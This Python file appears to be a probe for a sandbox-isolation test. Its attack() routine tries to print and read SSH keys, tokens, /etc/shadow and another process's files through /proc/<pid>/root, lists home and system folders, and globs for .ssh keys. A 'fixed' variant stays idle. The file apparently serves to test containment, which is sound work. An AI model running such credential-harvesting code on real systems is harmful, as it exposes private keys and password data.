"""Read SSH keys, tokens and the project in the caller's home folder."""

# off: managed to show id_rsa.*to read proof.json

import glob
import os
import pathlib

TARGET = {}  # the test names what to attack
managed = []


def attempt(what, action):
    try:
        action()
    except Exception as error:
        print(f"{what}: {type(error).__name__}")
    else:
        managed.append(what)


def attack():
    for path in TARGET["secret files"]:
        attempt(f"to show {os.path.basename(path)}", lambda: print(open(path).read()))
    for path in [*TARGET["secret files"], *TARGET["files"], TARGET["prover"] + "/child.py", "/etc/shadow", "/etc/machine-id"]:
        name = os.path.basename(path)
        attempt(f"to read {name}", lambda: open(path, "rb").read())
        attempt(f"to read {name} from the root", lambda: open("/proc/self/root" + path, "rb").read())
        attempt(f"to read {name} in another's root", lambda: open(f"/proc/{TARGET['victim']}/root{path}", "rb").read())
    for folder in [TARGET["home"], *TARGET["folders"], "/home", "/root", "/tmp", "/run", "/var"]:
        attempt(f"to list {folder}", lambda: os.listdir(folder))
    attempt("to find a key", lambda: glob.glob("/*/*/.ssh/*")[0])
    attempt("to read what the home folder holds", lambda: next(pathlib.Path.home().iterdir()))


def broken():
    attack()
    print("managed", ", ".join(managed) or "nothing")


def fixed():
    print("idle")
